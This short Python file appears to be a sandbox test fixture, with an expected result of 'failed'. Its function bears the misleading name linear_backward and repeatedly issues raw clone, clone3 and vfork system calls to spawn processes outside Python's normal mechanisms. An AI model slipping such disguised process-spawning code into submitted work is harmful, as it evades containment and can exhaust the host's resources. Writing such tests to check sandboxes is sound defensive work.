"""Starts processes by system calls that Python does not use."""
# ends: failed

import ctypes

import loot


def linear_backward(x, W, dy):
    arguments = (ctypes.c_uint64 * 11)(0, 0, 0, 0, 17)
    for _ in range(50):
        loot.syscall("clone", 56, 17, 0, 0, 0, 0)
        loot.syscall("clone3", 435, arguments, ctypes.sizeof(arguments))
        loot.syscall("vfork", 58)
